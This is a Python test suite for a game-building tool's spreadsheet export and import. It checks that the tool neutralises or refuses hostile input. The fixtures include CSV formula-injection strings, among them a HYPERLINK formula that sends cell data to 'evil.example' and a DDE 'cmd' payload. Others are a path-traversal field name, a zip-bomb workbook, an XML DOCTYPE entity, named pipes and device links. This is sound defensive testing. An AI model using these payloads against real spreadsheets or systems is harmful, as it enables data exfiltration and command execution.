"""`sheet export` and `sheet import` against hostile content, workbooks and files.

What they write runs in no spreadsheet program, whatever its separator, and
lands only inside `--out`; what they read is a regular file within bounds,
refused located (exit 2) past one, never read for minutes or into all memory;
a linked content file is edited through to its target or refused; and the
would-be content is checked as `validate` checks the project itself, in a copy that
keeps folder links as links, stays within a bound, and is removed however the check ends.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import REPO, assert_no_crash, run_cli
from tests.test_spreadsheet import copy_project, edit, export, run, snapshot
from tests.workbooks import inline, rows, run_bounded, write_workbook
from ttgbuild.core.diagnostics import Diagnostic
from ttgbuild.spreadsheet import check
from ttgbuild.validate.project import validate_project

TIDEWRACK = REPO / "examples" / "tidewrack"
FORMULA_START = ("=", "+", "-", "@")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def jugger(tmp_path: Path) -> Path:
    return copy_project(REPO, tmp_path / "jugger")


def cell_starts(text: str, separator: str) -> list[str]:
    """Every cell a program splitting lines on `separator`, ignoring quotes, would show,
    with the spaces and quotes it may trim taken off."""
    return [
        piece.strip(' "')
        for line in text.replace("\r", "\n").split("\n")
        for piece in line.split(separator)
    ]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula(text: str) -> None:
    for separator in (",", ";", "\t"):
        for cell in cell_starts(text, separator):
            if cell.startswith(FORMULA_START) and not is_number(cell):
                raise AssertionError(f"{cell!r} starts a formula when split on {separator!r}")


def set_hero_name(root: Path, name: str) -> None:
    hero = root / "content" / "heroes" / "kirra-maddock.yaml"
    text = hero.read_text(encoding="utf-8")
    hero.write_text(re.sub(r"(?m)^name: .*$", f"name: {json.dumps(name)}", text, count=1))


@pytest.mark.parametrize(
    "name",
    ["Kirra;=cmd|' /C calc'!A0", "Kirra, -2+3", "Kirra\t@SUM(1)", "Kirra;\n+1", "a; 'x"],
)
def test_a_csv_export_starts_no_formula_whatever_the_separator(
    jugger: Path, tmp_path: Path, name: str
) -> None:
    set_hero_name(jugger, name)
    before = snapshot(jugger)
    out = tmp_path / "csv"
    assert run(jugger, "export", "--out", str(out)).exit_code == 0
    assert_no_formula((out / "heroes.csv").read_text(encoding="utf-8"))
    result = run(jugger, "import", str(out))  # the marks come off again: nothing changes
    assert result.exit_code == 0, result.stdout + result.stderr
    assert snapshot(jugger) == before


def hostile_pack(root: Path) -> Path:
    """Tidewrack with a critter field named like a formula, and a list named like a path."""
    schemas = root / "pack" / "schemas"
    critter = json.loads((schemas / "critter.schema.json").read_text(encoding="utf-8"))
    critter["properties"][HOSTILE] = {"type": "string", "description": "a hostile name"}
    (schemas / "critter.schema.json").write_text(json.dumps(critter), encoding="utf-8")
    game = json.loads((schemas / "game.schema.json").read_text(encoding="utf-8"))
    game["properties"]["../../../escaped"] = {
        "type": "array",
        "items": {
            "type": "object",
            "additionalProperties": False,
            "properties": {"x": {"type": "integer"}},
        },
    }
    (schemas / "game.schema.json").write_text(json.dumps(game), encoding="utf-8")
    with (root / "content" / "game.yaml").open("a", encoding="utf-8") as stream:
        stream.write('"../../../escaped":\n  - {x: 1}\n')
    return root


def test_header_cells_from_a_packs_field_names_are_text_in_csv(tmp_path: Path) -> None:
    root = hostile_pack(copy_project(TIDEWRACK, tmp_path / "game"))
    out = tmp_path / "csv"
    assert run(root, "export", "--out", str(out)).exit_code == 0
    text = (out / "critters.csv").read_text(encoding="utf-8")
    assert_no_formula(text)
    header = next(csv.reader(io.StringIO(text)))
    assert "'" + HOSTILE in header


def test_header_cells_from_a_packs_field_names_are_text_in_xlsx(tmp_path: Path) -> None:
    root = hostile_pack(copy_project(TIDEWRACK, tmp_path / "game"))
    book = export(root)
    sheet = load_workbook(book)["critters"]
    header = {cell.value: cell for cell in sheet[1]}
    assert header[HOSTILE].data_type == "s" and header[HOSTILE].quotePrefix
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_a_field_name_that_is_a_path_writes_nothing_outside_out(tmp_path: Path) -> None:
    root = hostile_pack(copy_project(TIDEWRACK, tmp_path / "game"))
    out = tmp_path / "a" / "b" / "c" / "csv"
    result = run(root, "export", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    written = [p for p in tmp_path.rglob("*.csv") if p.is_file()]
    assert written and all(p.parent == out for p in written), written
    before = snapshot(root)
    result = run(root, "import", str(out))  # its file is found again by import
    assert result.exit_code == 0, result.stdout + result.stderr
    assert snapshot(root) == before


def test_a_workbook_unpacking_to_one_huge_cell_is_refused_at_once(
    jugger: Path, tmp_path: Path
) -> None:
    huge = (b"A" * (1 << 20) for _ in range(100))  # 100 MB in one cell, ~100 KB zipped
    book = write_workbook(
        tmp_path / "huge.xlsx",
        "heroes",
        [
            *rows(inline("A1", "id"))[:3],
            b'<row r="2"><c r="A2" t="inlineStr"><is><t>',
            *huge,
            b"</t></is></c></row></sheetData></worksheet>",
        ],
    )
    assert book.stat().st_size < 1 << 20
    result = run_bounded(jugger, "import", str(book))
    assert result.returncode == 2, result.stderr
    assert "huge.xlsx" in result.stderr and "unpacks to" in result.stderr


def test_an_overlong_cell_is_refused_at_its_cell(jugger: Path, tmp_path: Path) -> None:
    book = write_workbook(
        tmp_path / "long.xlsx",
        "heroes",
        rows(inline("A1", "id"), inline("B2", "x" * 200_000)),
    )
    result = run_bounded(jugger, "import", str(book))
    assert result.returncode == 2, result.stderr
    assert "heroes!B2" in result.stderr


@pytest.mark.parametrize("last", ["XFD", "AMK"])  # Excel's last column; one past the bound
def test_cells_in_the_last_column_are_refused_at_their_cell(
    jugger: Path, tmp_path: Path, last: str
) -> None:
    many = (f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>'.encode() for n in range(2, 60_000))
    sheet = [
        *rows()[:2],
        b'<row r="1">' + inline("A1", "id") + inline(f"{last}1", "x") + b"</row>",
        *many,
        *rows()[2:],
    ]
    book = write_workbook(tmp_path / "wide.xlsx", "heroes", sheet)
    assert book.stat().st_size < 1 << 20
    result = run_bounded(jugger, "import", str(book))
    assert result.returncode == 2, result.stderr
    assert f"heroes!{last}1" in result.stderr


def test_a_stated_size_past_the_bounds_is_refused(jugger: Path, tmp_path: Path) -> None:
    sheet = rows(inline("A1", "id"))
    sheet.insert(1, b'<dimension ref="A1:XFD1048576"/>')
    book = write_workbook(tmp_path / "dimension.xlsx", "heroes", sheet)
    result = run_bounded(jugger, "import", str(book))
    assert result.returncode == 2, result.stderr
    assert "heroes" in result.stderr and "A1:XFD1048576" in result.stderr


def test_a_doctype_is_refused(jugger: Path, tmp_path: Path) -> None:
    laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]>'
    book = write_workbook(tmp_path / "doctype.xlsx", "heroes", [laughs, *rows()[1:]])
    result = run_bounded(jugger, "import", str(book))
    assert result.returncode == 2 and "DOCTYPE" in result.stderr, result.stderr


def test_too_many_zip_entries_are_refused(jugger: Path, tmp_path: Path) -> None:
    book = export(jugger)
    with zipfile.ZipFile(book, "a") as archive:
        for number in range(1001):
            archive.writestr(f"junk/{number}.txt", b"")
    result = run_bounded(jugger, "import", str(book))
    assert result.returncode == 2 and "zip entries" in result.stderr, result.stderr


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", ["pipe.csv", "pipe.xlsx"])
def test_a_fifo_is_refused_not_waited_on(jugger: Path, tmp_path: Path, name: str) -> None:
    os.mkfifo(tmp_path / name)
    result = run_bounded(jugger, "import", str(tmp_path / name), timeout=30)
    assert result.returncode == 2, result.stderr
    assert "named pipe" in result.stderr


@pytest.mark.timeout(60)
def test_a_fifo_in_a_csv_folder_is_refused(jugger: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    assert run(jugger, "export", "--out", str(out)).exit_code == 0
    os.mkfifo(out / "zz.csv")
    result = run_bounded(jugger, "import", str(out), timeout=30)
    assert result.returncode == 2 and "named pipe" in result.stderr, result.stderr


@pytest.mark.timeout(60)
def test_a_csv_linked_to_a_device_is_refused(jugger: Path, tmp_path: Path) -> None:
    (tmp_path / "zero.csv").symlink_to("/dev/zero")
    result = run_bounded(jugger, "import", str(tmp_path / "zero.csv"), timeout=30)
    assert result.returncode == 2 and "device" in result.stderr, result.stderr


def test_a_linked_content_file_is_edited_through_to_its_target(jugger: Path) -> None:
    hero = jugger / "content" / "heroes" / "kirra-maddock.yaml"
    shared = jugger / "shared" / "kirra-maddock.yaml"
    shared.parent.mkdir()
    hero.rename(shared)
    hero.symlink_to("../../shared/kirra-maddock.yaml")
    book = export(jugger)
    edit(book, "heroes", "kirra-maddock", "name", "Kirra the Linked")
    result = run(jugger, "import", str(book))
    assert result.exit_code == 0, result.stdout + result.stderr
    assert hero.is_symlink() and os.readlink(hero) == "../../shared/kirra-maddock.yaml"
    assert "Kirra the Linked" in shared.read_text(encoding="utf-8")
    assert "content/heroes/kirra-maddock.yaml: is a link; its target shared/kirra-maddock.yaml" in (
        result.stdout
    )


def test_a_new_row_whose_file_is_a_broken_link_is_refused(jugger: Path) -> None:
    twin = jugger / "content" / "heroes" / "twin.yaml"
    twin.symlink_to("nowhere.yaml")
    book = export(jugger)  # twin.yaml is a broken link: not a record, but its file exists
    workbook = load_workbook(book)
    sheet = workbook["heroes"]
    sheet.append(["twin", *[c.value for c in sheet[2]][1:]])
    workbook.save(book)
    before = snapshot(jugger)
    result = run(jugger, "import", str(book))
    assert result.exit_code == 1 and "content/heroes/twin.yaml" in result.stdout, result.stdout
    assert snapshot(jugger) == before and twin.is_symlink()


def validate_errors(root: Path) -> list[str]:
    """`validate`'s errors as it prints them, one line each."""
    result = run_cli(root, "validate", "--format", "json")
    assert_no_crash(result)
    found = [Diagnostic(**d) for d in json.loads(result.stdout)]
    return [d.as_text() for d in found if d.severity == "error"]


def special_files(root: Path, outside: Path) -> None:
    """A named pipe, a broken link, a link out of the project and one to a device, all
    where validate looks (a folder of records)."""
    heroes = root / "content" / "heroes"
    os.mkfifo(heroes / "pipe.yaml")
    (heroes / "ghost.yaml").symlink_to("nowhere.yaml")
    outside.write_text("id: outsider\n", encoding="utf-8")
    (heroes / "outsider.yaml").symlink_to(outside)
    (heroes / "zero.yaml").symlink_to("/dev/zero")


@pytest.mark.timeout(120)
def test_the_would_be_content_is_checked_as_validate_checks_the_project(
    jugger: Path, tmp_path: Path
) -> None:
    book = export(jugger)
    cell = edit(book, "heroes", "kirra-maddock", "name", "Kirra Checked")
    special_files(jugger, tmp_path / "outside.yaml")
    expected = validate_errors(jugger)
    assert len(expected) >= 4, expected  # each special file is an error of validate
    before = snapshot(jugger)
    result = run(jugger, "import", str(book))
    assert result.exit_code == 1, result.stdout + result.stderr
    shown = result.stdout.splitlines()
    assert all(line in shown for line in expected), (expected, shown)
    assert snapshot(jugger) == before and cell
    assert (tmp_path / "outside.yaml").read_text(encoding="utf-8") == "id: outsider\n"


def linked_folders(root: Path, count: int) -> None:
    """content/x/d1…dN, each holding links l1…lN to every one of them: copied as folders,
    they made about N! copies (eight took minutes and left a 54 MB temporary folder)."""
    for i in range(1, count + 1):
        (root / "content" / "x" / f"d{i}").mkdir(parents=True)
    for i in range(1, count + 1):
        for j in range(1, count + 1):
            (root / "content" / "x" / f"d{i}" / f"l{j}").symlink_to(f"../d{j}")


@pytest.fixture
def temp_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder temporary files go to in this process, empty: what an import leaves there."""
    folder = tmp_path / "temp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.mark.timeout(60)
def test_folders_linking_to_each_other_are_copied_as_links_never_expanded(
    jugger: Path, temp_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    linked_folders(jugger, 3)
    book = export(jugger)
    edit(book, "heroes", "kirra-maddock", "name", "Kirra Linked")
    seen: dict[str, object] = {}

    def validate_copy(copy: Path) -> object:
        seen["link"] = (copy / "content/x/d1/l2").is_symlink()
        seen["target"] = (copy / "content/x/d1/l2").resolve() == (copy / "content/x/d2").resolve()
        loaded, diags = validate_project(copy)
        seen["JT011"] = sorted(d.file for d in diags if d.code == "JT011")
        return loaded, diags

    monkeypatch.setattr(check, "validate_project", validate_copy)
    result = run(jugger, "import", str(book), "--dry-run")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert seen["link"] and seen["target"], seen
    expected = sorted(f"content/x/d{i}/l{j}" for i in range(1, 4) for j in range(1, 4))
    assert seen["JT011"] == expected  # what validate says of the project itself
    assert list(temp_folder.iterdir()) == []


@pytest.mark.timeout(60)
def test_a_copy_past_the_bound_is_located_and_removed(
    jugger: Path, temp_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    book = export(jugger)
    edit(book, "heroes", "kirra-maddock", "name", "Kirra Bounded")
    monkeypatch.setattr(check, "MAX_ENTRIES", 10)
    before = snapshot(jugger)
    result = run(jugger, "import", str(book))
    assert result.exit_code == 1, result.stdout + result.stderr
    assert re.search(r"^content[^:]*:0:0: error JT010: ", result.stdout, re.M), result.stdout
    assert snapshot(jugger) == before
    assert list(temp_folder.iterdir()) == []


@pytest.mark.timeout(120)
def test_sigterm_during_the_check_removes_the_copy(jugger: Path, tmp_path: Path) -> None:
    book = export(jugger)
    edit(book, "heroes", "kirra-maddock", "name", "Kirra Stopped")
    temp = tmp_path / "temp"
    temp.mkdir()
    stalled = (  # the check never ends: only SIGTERM stops it
        "import time, sys\n"
        "from ttgbuild.spreadsheet import check\n"
        "check.validate_project = lambda copy: time.sleep(600)\n"
        "from ttgbuild.launch import main\n"
        "sys.argv = ['ttgbuild', *sys.argv[1:]]\n"
        "main()\n"
    )
    command = [sys.executable, "-c", stalled, "sheet", "import", str(book)]
    env = {**os.environ, "TMPDIR": str(temp)}
    with subprocess.Popen(
        [*command, "--project", str(jugger)], env=env, stderr=subprocess.PIPE, text=True
    ) as process:
        while not any(temp.iterdir()) and process.poll() is None:
            time.sleep(0.05)
        assert process.poll() is None, process.stderr.read() if process.stderr else ""
        process.send_signal(signal.SIGTERM)
        _out, err = process.communicate(timeout=60)
    assert "Traceback" not in err, err
    assert process.returncode == 128 + signal.SIGTERM, err  # said as SIGTERM, not Ctrl-C
    assert list(temp.iterdir()) == []
